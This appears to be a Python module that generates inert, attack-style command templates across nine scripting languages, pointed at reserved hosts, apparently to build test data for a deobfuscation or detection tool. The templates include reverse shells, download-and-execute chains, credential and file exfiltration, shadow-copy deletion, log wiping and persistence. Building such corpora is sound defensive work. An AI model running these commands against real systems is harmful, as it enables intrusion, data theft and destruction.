"""What is hidden: inert commands of each language, with what of them must come to light. Shared by both halves.

Nothing here is ever run: reserved domains and documentation addresses only, names made up from a list of words.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from dataclasses import dataclass, replace

from vedette.schema.command import Language

Rng = random.Random


@dataclass(frozen=True, slots=True, kw_only=True)
class Truth:
    """A command before it is hidden."""

    name: str
    """Which template it comes from."""
    language: Language
    text: str
    statements: tuple[str, ...]
    """Its parts, each of which must stand in the layer that is held for the final command."""
    urls: tuple[str, ...] = ()
    paths: tuple[str, ...] = ()
    hosts: tuple[str, ...] = ()
    """Addresses and domains that stand in no URL."""
    registry: tuple[str, ...] = ()
    """Allowed in observables, not asked for."""

    @property
    def items(self) -> tuple[str, ...]:
        """Return what must stand among the observables."""
        return self.urls + self.paths + self.hosts


@dataclass(frozen=True, slots=True, kw_only=True)
class Code:
    """A command on its way through the ways of hiding."""

    language: Language
    text: str
    methods: tuple[str, ...] = ()
    """Innermost first."""
    adds: tuple[str, ...] = ()
    """Paths and names that the hiding itself writes down: stating them invents nothing."""
    depth: int = 0
    """How many ways of hiding lie over each other."""

    def hidden(self, language: Language, text: str, method: str, *adds: str, layers: int = 1) -> Code:
        """Return the code after one more way of hiding."""
        return replace(
            self,
            language=language,
            text=text,
            methods=(*self.methods, method),
            adds=(*self.adds, *adds),
            depth=self.depth + layers,
        )


@dataclass(frozen=True, slots=True, kw_only=True)
class Row:
    """One line of a corpus."""

    id: str
    truth: Truth
    code: Code


Hide = Callable[[Code, Rng], Code | None]
"""A way of hiding; None where it does not fit the text."""

WORDS = (
    "amber birch cedar delta ember fjord grove harbor indigo juniper kestrel lagoon maple nectar onyx pebble quartz "
    "raven saffron tundra umber velvet willow xenon yarrow zephyr atlas beacon copper dahlia elm falcon granite hazel "
    "iris jasper koala lotus meadow nimbus orchid prairie quill ripple sierra topaz upland violet walnut"
).split()
TOP = ("example.com", "example.net", "example.org", "test", "invalid", "example")
NETS = ("192.0.2", "198.51.100", "203.0.113")


def word(rng: Rng) -> str:
    """Return a made-up name."""
    return rng.choice(WORDS) + rng.choice(("", "", str(rng.randint(1, 99))))


def domain(rng: Rng) -> str:
    """Return a domain that can never be registered."""
    return f"{rng.choice(('', 'cdn.', 'files.', 'img.', 'dl-'))}{word(rng)}.{rng.choice(TOP)}"


def address(rng: Rng) -> str:
    """Return an address of the blocks kept for documentation."""
    return f"{rng.choice(NETS)}.{rng.randint(1, 254)}"


def url(rng: Rng, *endings: str) -> str:
    """Return a URL on such a domain or address."""
    host = rng.choice((domain, domain, address))(rng)
    port = rng.choice(("", "", "", ":8080", ":8443"))
    path = "/".join(word(rng) for _ in range(rng.randint(1, 3)))
    return f"{rng.choice(('http', 'https'))}://{host}{port}/{path}{rng.choice(endings or ('.txt',))}"


def windows_path(rng: Rng, *endings: str) -> str:
    """Return a path of Windows without spaces."""
    roots = ("C:\\Users\\Public\\", "C:\\ProgramData\\", "C:\\Windows\\Temp\\", "C:\\Windows\\Tasks\\", "C:\\Perf\\")
    middle = rng.choice(("", "", word(rng).title() + "\\"))
    return rng.choice(roots) + middle + word(rng) + rng.choice(endings or (".exe",))


def unix_path(rng: Rng, *endings: str) -> str:
    """Return a path of Unix without spaces."""
    roots = ("/tmp/", "/var/tmp/", "/dev/shm/", "/opt/", "/usr/local/bin/", "/home/deploy/")
    return rng.choice(roots) + rng.choice(("", "", ".")) + word(rng) + rng.choice(endings or ("",))


def _many(language: Language, name: str, joiner: str, *statements: str, **items: tuple[str, ...]) -> Truth:
    parts = tuple(s.rstrip(";") for s in statements)
    return Truth(name=name, language=language, text=joiner.join(statements), statements=parts, **items)


def powershell(rng: Rng) -> Truth:
    """Return an inert command of PowerShell; its strings stand in single quotes."""
    u, p, q = url(rng, ".exe", ".dat", ".bin", "/get"), windows_path(rng, ".exe"), windows_path(rng, ".zip")
    s = url(rng, ".ps1", ".txt", "/stage", "")
    key = "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    language, name, host = Language.POWERSHELL, word(rng), rng.choice((domain, address))(rng)
    kind = rng.choice(
        "download-file download-string web-request run-key account list bits send exclusion ping alias-run task".split()
    )
    match kind:
        case "download-file":
            parts = (f"(New-Object Net.WebClient).DownloadFile('{u}','{p}')", f"Start-Process '{p}'")
            return _many(language, kind, ";", *parts, urls=(u,), paths=(p,))
        case "download-string":
            return _many(language, kind, "", f"IEX (New-Object Net.WebClient).DownloadString('{s}')", urls=(s,))
        case "web-request":
            parts = (f"Invoke-WebRequest -Uri '{u}' -OutFile '{p}'", f"Start-Process -FilePath '{p}'")
            return _many(language, kind, "; ", *parts, urls=(u,), paths=(p,))
        case "run-key":
            text = f"New-ItemProperty -Path '{key}' -Name '{name}' -Value '{p}' -PropertyType 'String' -Force"
            return _many(language, kind, "", text, paths=(p,), registry=(key, key + "\\" + name))
        case "account":
            parts = (
                f"net user {name} Pass{rng.randint(1000, 9999)} /add",
                f"net localgroup administrators {name} /add",
            )
            return _many(language, kind, "; ", *parts)
        case "list":
            return _many(language, kind, "", f"Get-ChildItem -Path '{q[:-4]}' -Recurse -Force", paths=(q[:-4],))
        case "bits":
            parts = (f"Start-BitsTransfer -Source '{u}' -Destination '{p}'", f"& '{p}'")
            return _many(language, kind, ";", *parts, urls=(u,), paths=(p,))
        case "send":
            parts = (
                f"Compress-Archive -Path '{p[:-4]}' -DestinationPath '{q}'",
                f"Invoke-RestMethod -Uri '{s}' -Method 'Post' -InFile '{q}'",
            )
            return _many(language, kind, "; ", *parts, urls=(s,), paths=(p[:-4], q))
        case "exclusion":
            return _many(language, kind, "", f"Add-MpPreference -ExclusionPath '{p}'", paths=(p,))
        case "ping":
            return _many(language, kind, "", f"Test-Connection -ComputerName '{host}' -Count 1", hosts=(host,))
        case "task":
            text = f"schtasks /create /tn {name} /tr {p} /sc onlogon /f"
            return _many(language, kind, "", text, paths=(p,))
        case _:
            return _many(language, kind, "", f"Invoke-Expression (Invoke-RestMethod -Uri '{s}')", urls=(s,))


def cmd(rng: Rng) -> Truth:
    """Return an inert command of cmd.exe."""
    u, p, t = url(rng, ".exe", ".dat", ".bin", "/get"), windows_path(rng, ".exe"), windows_path(rng, ".txt", ".log")
    s, name, host = url(rng, ".sct", ".hta", ".txt"), word(rng), rng.choice((domain, address))(rng)
    key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    language = Language.CMD
    kind = rng.choice(
        "certutil bitsadmin run-key account curl task list regsvr32 mshta wmic ping lookup shadow".split()
    )
    match kind:
        case "certutil":
            parts = (f"certutil -urlcache -split -f {u} {p}", f"start {p}")
            return _many(language, kind, " && ", *parts, urls=(u,), paths=(p,))
        case "bitsadmin":
            parts = (f"bitsadmin /transfer {name} /download /priority high {u} {p}", f"{p}")
            return _many(language, kind, " & ", *parts, urls=(u,), paths=(p,))
        case "run-key":
            text = f"reg add {key} /v {name} /t REG_SZ /d {p} /f"
            return _many(language, kind, "", text, paths=(p,), registry=(key, key + "\\" + name))
        case "account":
            parts = (
                f"net user {name} Pass{rng.randint(1000, 9999)} /add",
                f"net localgroup administrators {name} /add",
            )
            return _many(language, kind, " && ", *parts)
        case "curl":
            return _many(language, kind, " && ", f"curl -s -o {p} {u}", f"{p}", urls=(u,), paths=(p,))
        case "task":
            return _many(language, kind, "", f"schtasks /create /tn {name} /tr {p} /sc onlogon /f", paths=(p,))
        case "list":
            return _many(language, kind, "", f"dir /s /b {p[:-4]} > {t}", paths=(p[:-4], t))
        case "regsvr32":
            return _many(language, kind, "", f"regsvr32 /s /n /u /i:{s} scrobj.dll", urls=(s,))
        case "mshta":
            return _many(language, kind, "", f"mshta {s}", urls=(s,))
        case "wmic":
            return _many(language, kind, "", f"wmic process call create {p}", paths=(p,))
        case "ping":
            return _many(language, kind, "", f"ping -n 1 {host}", hosts=(host,))
        case "lookup":
            server = address(rng)
            return _many(language, kind, "", f"nslookup -type=txt {host} {server}", hosts=(host, server))
        case _:
            return _many(language, kind, "", "vssadmin delete shadows /all /quiet")


def sh(rng: Rng) -> Truth:
    """Return an inert command of a Unix shell."""
    u, p, t = url(rng, ".sh", ".elf", "/x86", ""), unix_path(rng), unix_path(rng, ".tgz", ".tar.gz")
    name, host = word(rng), address(rng)
    port = str(rng.randint(1025, 60000))
    language = Language.SH
    kind = rng.choice("curl wget pipe account cron find send reverse netcat read erase keys".split())
    match kind:
        case "curl":
            parts = (f"curl -fsSL {u} -o {p}", f"chmod +x {p}", f"{p}")
            return _many(language, kind, " && ", *parts, urls=(u,), paths=(p,))
        case "wget":
            parts = (f"wget -q {u} -O {p}", f"chmod 755 {p}", f"nohup {p}")
            return _many(language, kind, "; ", *parts, urls=(u,), paths=(p,))
        case "pipe":
            return _many(language, kind, "", f"curl -s {u} | bash", urls=(u,))
        case "account":
            return _many(language, kind, "", f"useradd -m -s /bin/bash -G sudo {name}", paths=("/bin/bash",))
        case "cron":
            text = f"cp {p} /etc/cron.hourly/{name}"
            return _many(language, kind, "", text, paths=(p, f"/etc/cron.hourly/{name}"))
        case "find":
            return _many(language, kind, "", "find /home -type f -name id_rsa", paths=("/home",))
        case "send":
            return _many(
                language, kind, " && ", f"tar czf {t} /etc/ssl", f"curl -T {t} {u}", urls=(u,), paths=(t, "/etc/ssl")
            )
        case "reverse":
            parts = f"bash -i >& /dev/tcp/{host}/{port} 0>&1"
            return _many(language, kind, "", parts, hosts=(host,))
        case "netcat":
            return _many(language, kind, "", f"nc {host} {port} -e /bin/sh", paths=("/bin/sh",), hosts=(host,))
        case "read":
            return _many(language, kind, "", "cat /etc/passwd /etc/shadow", paths=("/etc/passwd", "/etc/shadow"))
        case "erase":
            parts = ("rm -f /var/log/auth.log", "history -c")
            return _many(language, kind, "; ", *parts, paths=("/var/log/auth.log",))
        case _:
            text = f"chattr +i {p}"
            return _many(language, kind, "", text, paths=(p,))


def _inside(truth: Truth, language: Language, text: str, name: str) -> Truth:
    return replace(truth, language=language, text=text, statements=(text.rstrip(";"),), name=f"{name} of {truth.name}")


def _simple(make: Callable[[Rng], Truth], rng: Rng, banned: str) -> Truth:
    while True:
        truth = make(rng)
        if not any(c in truth.text for c in banned):
            return truth


def python(rng: Rng) -> Truth:
    """Return an inert line of Python."""
    u, p, h = url(rng, ".py", ".bin", "/x"), unix_path(rng, ".py", ""), address(rng)
    kind = rng.choice("fetch system exec socket list".split())
    language = Language.PYTHON
    match kind:
        case "fetch":
            text = f"import urllib.request;urllib.request.urlretrieve('{u}','{p}')"
            return _many(language, kind, "", text, urls=(u,), paths=(p,))
        case "system":
            inner = _simple(sh, rng, "'\"")
            return _inside(inner, language, f"import os;os.system('{inner.text}')", kind)
        case "exec":
            text = f"import urllib.request;exec(urllib.request.urlopen('{u}').read())"
            return _many(language, kind, "", text, urls=(u,))
        case "socket":
            text = f"import socket;s=socket.create_connection(('{h}',{rng.randint(1025, 60000)}))"
            return _many(language, kind, "", text, hosts=(h,))
        case _:
            text = f"import subprocess;subprocess.call(['curl','-o','{p}','{u}'])"
            return _many(language, kind, "", text, urls=(u,), paths=(p,))


def perl(rng: Rng) -> Truth:
    """Return an inert line of Perl."""
    u, p = url(rng, ".pl", ".bin", "/x"), unix_path(rng, ".pl", "")
    if rng.random() < 0.5:
        text = f"use LWP::Simple;getstore('{u}','{p}');exec('{p}');"
        return _many(Language.PERL, "getstore", "", text, urls=(u,), paths=(p,))
    inner = _simple(sh, rng, "'\"$@")
    return _inside(inner, Language.PERL, f"system('{inner.text}');", "system")


def ruby(rng: Rng) -> Truth:
    """Return an inert line of Ruby."""
    inner = _simple(sh, rng, "'\"")
    return _inside(inner, Language.RUBY, f"system('{inner.text}')", "system")


def php(rng: Rng) -> Truth:
    """Return an inert line of PHP."""
    u, p = url(rng, ".txt", ".php"), unix_path(rng, ".php")
    if rng.random() < 0.5:
        text = f"file_put_contents('{p}',file_get_contents('{u}'));include('{p}');"
        return _many(Language.PHP, "put", "", text, urls=(u,), paths=(p,))
    inner = _simple(sh, rng, "'\"$")
    return _inside(inner, Language.PHP, f"system('{inner.text}');", "system")


def jscript(rng: Rng) -> Truth:
    """Return an inert line of JScript for the script host."""
    inner = _simple(cmd, rng, "'\"")
    escaped = inner.text.replace("\\", "\\\\")
    return _inside(
        inner, Language.JSCRIPT, f"new ActiveXObject('WScript.Shell').Run('cmd /c {escaped}',0,false);", "run"
    )


def vbscript(rng: Rng) -> Truth:
    """Return an inert line of VBScript."""
    inner = _simple(cmd, rng, "'\"")
    return _inside(inner, Language.VBSCRIPT, f'CreateObject("WScript.Shell").Run "cmd /c {inner.text}",0,False', "run")


TRUTHS: dict[Language, Callable[[Rng], Truth]] = {
    Language.POWERSHELL: powershell,
    Language.CMD: cmd,
    Language.SH: sh,
    Language.PYTHON: python,
    Language.PERL: perl,
    Language.RUBY: ruby,
    Language.PHP: php,
    Language.JSCRIPT: jscript,
    Language.VBSCRIPT: vbscript,
}

FOLDED = frozenset({Language.POWERSHELL, Language.CMD, Language.VBSCRIPT, Language.PROGRAM})
"""Languages without case."""

_ALIASES = {
    "iex": "invoke-expression",
    "iwr": "invoke-webrequest",
    "irm": "invoke-restmethod",
    "saps": "start-process",
    "start": "start-process",
    "gci": "get-childitem",
    "dir": "get-childitem",
    "ls": "get-childitem",
    "sajb": "start-job",
    "curl": "invoke-webrequest",
    "wget": "invoke-webrequest",
}
_SPACES = re.compile(r"\s+")
_AROUND = re.compile(r"\s*([;|&(){}\[\],=<>+])\s*")
_DOUBLED = re.compile(r"\(\(([^()]*)\)\)")
_ALONE = re.compile(r"(?<=\s)\(([^()\s]+)\)")
_CALLED = re.compile(r"(^|[;|{(])[&.]+\s*(?=[a-z(])")
_NAME = re.compile(r"(?<![\w.\\/:-])([a-z]+)(?![\w.\\/:-])")


def normalised(text: str, language: Language) -> str:
    """Return a command so that two ways of writing the same are equal: quotes, spaces, case, short names."""
    text = re.sub(r"[\"'‘’“”`]", "", text)
    if language is Language.CMD:
        text = text.replace("^", "")
    elif language is not Language.POWERSHELL and language is not Language.VBSCRIPT:
        text = text.replace("\\\\", "\\")
    if language in FOLDED:
        text = text.casefold()
    text = _SPACES.sub(" ", text).strip()
    if language is Language.POWERSHELL:
        text = text.replace("system.net.", "net.").replace(".invoke(", "(")
        text = _NAME.sub(lambda m: _ALIASES.get(m[1], m[1]), text)
        for _ in range(3):
            text = _ALONE.sub(r"\1", _DOUBLED.sub(r"(\1)", text))
        text = _CALLED.sub(r"\1", _AROUND.sub(r"\1", text))
    return _AROUND.sub(r"\1", text)
